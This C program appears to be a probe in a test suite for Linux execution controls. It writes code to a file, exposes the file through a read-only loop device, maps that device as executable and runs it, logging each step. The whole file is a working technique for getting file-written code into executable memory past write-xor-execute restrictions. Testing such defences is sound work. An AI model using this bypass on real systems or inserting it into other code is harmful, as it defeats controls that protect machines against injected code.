/*
 * Attack: code written into a file reaches memory through another object.
 * The program writes code into a file of its own (argv[1]), binds it
 * read-only to a free loop device (LOOP_CONFIGURE on a read-only
 * descriptor), opens the loop device read-only (no open for writing of
 * anything but the file) and maps the block device read+execute: the block
 * device's page cache holds the file's bytes. Then it runs them. Needs root
 * and a /dev without noexec (devtmpfs). With "mprotect", the device is
 * mapped read-only first and then made read+execute.
 *
 * usage: attack_loop_map FILE [mprotect]
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/loop.h>
#include <sys/ioctl.h>

#include "common.h"

int main(int argc, char **argv)
{
	size_t pg = tw_page();
	char page[65536] = {0}, dev[32];
	struct loop_config config = {0};
	int fd, ctl, loop, n, rc;
	void *p;

	tw_init();
	if (argc < 2 || pg > sizeof(page)) {
		fprintf(stderr, "usage: attack_loop_map FILE [mprotect]\n");
		return 2;
	}
	memcpy(page, TW_CODE, sizeof(TW_CODE));
	fd = open(argv[1], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
	tw_step("file_open", "openat", fd, errno);
	if (fd < 0 || write(fd, page, pg) != (ssize_t)pg)
		return tw_done();
	close(fd);
	fd = open(argv[1], O_RDONLY | O_CLOEXEC);
	ctl = open("/dev/loop-control", O_RDWR | O_CLOEXEC);
	tw_step("loop_control", "openat", ctl, errno);
	if (fd < 0 || ctl < 0)
		return tw_done();
	n = ioctl(ctl, LOOP_CTL_GET_FREE);
	tw_step("loop_free", "ioctl", n, errno);
	if (n < 0)
		return tw_done();
	snprintf(dev, sizeof(dev), "/dev/loop%d", n);
	loop = open(dev, O_RDONLY | O_CLOEXEC);
	tw_step("loop_open", "openat", loop, errno);
	if (loop < 0)
		return tw_done();
	config.fd = (unsigned int)fd;
	config.info.lo_flags = LO_FLAGS_READ_ONLY | LO_FLAGS_AUTOCLEAR;
	rc = ioctl(loop, LOOP_CONFIGURE, &config);
	tw_step("loop_configure", "ioctl", rc, errno);
	if (rc != 0)
		return tw_done();
	if (argc > 2 && strcmp(argv[2], "mprotect") == 0) {
		p = tw_mmap("loop_r", NULL, pg, PROT_READ, MAP_PRIVATE, loop, 0);
		if (p != MAP_FAILED && tw_mprotect("loop_rx", p, pg, TW_RX) != 0) {
			munmap(p, pg);
			p = MAP_FAILED;
		}
	} else {
		p = tw_mmap("loop_rx", NULL, pg, TW_RX, MAP_PRIVATE, loop, 0);
	}
	if (p != MAP_FAILED && memcmp(p, TW_CODE, sizeof(TW_CODE)) == 0) {
		tw_run("loop_call", p);
		munmap(p, pg);
	}
	ioctl(loop, LOOP_CLR_FD, 0);
	close(loop);
	return tw_done();
}
